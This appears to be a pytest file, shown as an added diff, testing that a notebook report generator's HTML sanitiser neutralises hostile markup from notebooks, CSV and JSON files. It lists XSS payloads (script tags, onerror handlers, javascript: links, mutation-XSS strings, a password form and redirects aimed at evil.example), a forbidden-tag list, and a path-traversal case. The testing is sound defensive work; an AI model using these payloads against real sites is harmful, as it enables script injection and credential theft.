@@ -1,0 +1,166 @@
+"""Nothing in a report runs, loads or covers the page, whatever a run left in its outputs."""
+
+import json
+import re
+import time
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+
+from kernelkit.pages import report_page, safe_html, shell
+from kernelkit.shown import Section, Shown
+
+PIXEL = "data:image/png;base64,iVBORw0KGgo="
+
+
+class Seen(HTMLParser):
+    """What a browser would make of a page: its tags and attributes."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.tags = []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append((tag, dict(attributes)))
+
+    handle_startendtag = handle_starttag
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/pixel.png">',
+    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">a</a><a href=" java\nscript:alert(1)">b</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">c</a>',
+    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
+    '<div style="position:fixed;top:0;background:url(//evil.example)">cover</div>',
+    '<form action="https://evil.example"><input name=password><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
+    "<style>main{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script>-->",
+]
+FORBIDDEN = "script iframe object embed form input button base link svg math audio video"
+
+
+def without_the_kits_own(page):
+    """The page less what the kit itself runs: two scripts and the data that they read."""
+    for name in (shell.CHART, report_page.SCRIPT):
+        page = page.replace(f"<script>{shell.source(name)}</script>", "", 1)
+    page = page.replace('<link rel="icon" href="data:,">', "", 1)
+    page, data = re.sub('<script type="application/json" id="data">[^<]*</script>', "", page), page
+    assert page != data
+    return page
+
+
+def check(page):
+    seen = Seen(page).tags
+    names = [tag for tag, _ in seen]
+    assert not {*FORBIDDEN.split()} & {*names}
+    assert (names.count("style"), names.count("meta")) == (1, 3)  # the kit's own
+    for _tag, attributes in seen:
+        assert not [name for name in attributes if name.startswith("on")]
+        assert "evil" not in (attributes.get("src") or "")
+        assert "position" not in (attributes.get("style") or "")
+        assert "url(" not in (attributes.get("style") or "")
+        link = "".join((attributes.get("href") or "#").split()).lower()
+        assert link.startswith(("#", "http", "mailto:"))
+
+
+def hostile_notebook(html):
+    """A notebook with the markup wherever a notebook can hold text."""
+    kinds = "text/html text/markdown application/javascript image/svg+xml text/plain text/latex"
+    isolated = {"text/html": {"isolated": False}}
+    outputs = [
+        *(nbformat.v4.new_output("display_data", data={kind: html}) for kind in kinds.split()),
+        nbformat.v4.new_output("display_data", data={"text/html": html}, metadata=isolated),
+        nbformat.v4.new_output("stream", text=html),
+        nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html]),
+    ]
+    broken = f'"><{html}'
+    of_cell = {"tags": [broken.replace(",", ";")], "magics_language": broken}
+    widgets = {"application/vnd.jupyter.widget-state+json": {"x": html}}
+    language = {"name": broken, "pygments_lexer": broken}
+    heading = f"# {html}\n\n## {broken}\n\n{html}\n\n[x](javascript:alert(1)) ![y](//evil.example)"
+    return nbformat.v4.new_notebook(
+        metadata={"title": html, "language_info": language, "widgets": widgets},
+        cells=[
+            nbformat.v4.new_markdown_cell(heading),
+            nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
+            nbformat.v4.new_code_cell(html, outputs=outputs, metadata=of_cell),
+        ],
+    )
+
+
+@pytest.mark.parametrize("html", ATTACKS)
+def test_a_report_is_harmless_whatever_its_notebook_and_its_files_hold(html, tmp_path):
+    picture = {"picture": html, "photo": PIXEL, html: html}
+    (tmp_path / "a.json").write_text(json.dumps([picture]))
+    (tmp_path / "b.csv").write_text(f'name,"F1"\n"{html.replace(chr(34), chr(39))}",0.5\n')
+    (tmp_path / "c.csv").write_text(f'"","<b>","{html.replace(chr(34), "")}"\nx,1,2\ny,3,4\n')
+    (tmp_path / "history.csv").write_text(f'phase,val_<b>{html.replace(",", "")}\n"{html}",1\n')
+    shown = Shown(
+        sections=(
+            Section(html, "a.json", "photos"),
+            Section("t", "a.json", "table", html),
+            Section("b", "b.csv", "bars"),
+            Section("c", "c.csv", "matrix"),
+        )
+    )
+    metrics = {"macro_f1": html, "device": {html: html}, "versions": {html: html}}
+    notebook = hostile_notebook(html)
+    page = report_page.render(notebook, metrics, shown, tmp_path, 0.0, tmp_path)
+    assert page.count("<section") >= 6  # curves, settings, photos, table, matrix, the notebook
+    check(without_the_kits_own(page))
+    assert "Content-Security-Policy" in page
+
+
+def test_tables_and_pictures_stay():
+    html = (
+        '<table class="dataframe" border="1"><thead><tr style="text-align: right;"><th>F1</th>'
+        f'</tr></thead><tbody><tr><td>0.9</td></tr></tbody></table><img src="{PIXEL}" alt="plot">'
+        '<a href="https://www.kaggle.com/code">kernel</a>'
+    )
+    seen = Seen(safe_html.clean(html)).tags
+    assert [tag for tag, _ in seen] == [tag for tag, _ in Seen(html).tags]
+    assert ("img", {"src": PIXEL, "alt": "plot"}) in seen
+    assert ("a", {"href": "https://www.kaggle.com/code"}) in seen
+
+
+LARGE = f'<img src="{PIXEL}{"AAAA" * 1_000_000}">'
+
+
+@pytest.mark.parametrize("html", ["<b>" * 200_000, "<style" * 200_000, "x" * 10**7, LARGE])
+def test_markup_without_end_is_left_out_and_said_and_a_large_picture_is_none(html):
+    began = time.monotonic()
+    shown = LARGE if html == LARGE else "too long for this page"
+    assert shown in safe_html.clean(html)
+    assert time.monotonic() - began < 5
+
+
+def test_a_report_shows_pictures_of_its_folder_and_no_other_file(tmp_path):
+    (tmp_path / "secret.png").write_bytes(b"the secret")
+    folder = tmp_path / "run"
+    folder.mkdir()
+    (folder / "own.png").write_bytes(b"its picture")
+    notebook = nbformat.v4.new_notebook()
+    notebook.cells = [nbformat.v4.new_markdown_cell("![a](../secret.png) ![b](own.png)")]
+    nbformat.write(notebook, folder / "run.ipynb")
+    page = report_page.write_report(folder / "run.ipynb", folder / "report.html", folder)
+    page = page.read_text()
+    assert "dGhlIHNlY3JldA" not in page
+    assert "aXRzIHBpY3R1cmU" in page
+
+
+def test_an_outputs_ids_are_its_own_and_its_style_sheet_is_no_text():
+    style = "<style scoped>\n.dataframe tbody tr { color: red }\n</style>"
+    cleaned = safe_html.clean(f'{style}<p id="data">1</p><a href="#data">to it</a> id="data"')
+    assert "color" not in cleaned
+    assert 'id="output-data"' in cleaned
+    assert 'href="#output-data"' in cleaned
+    assert cleaned.endswith('id="data"')
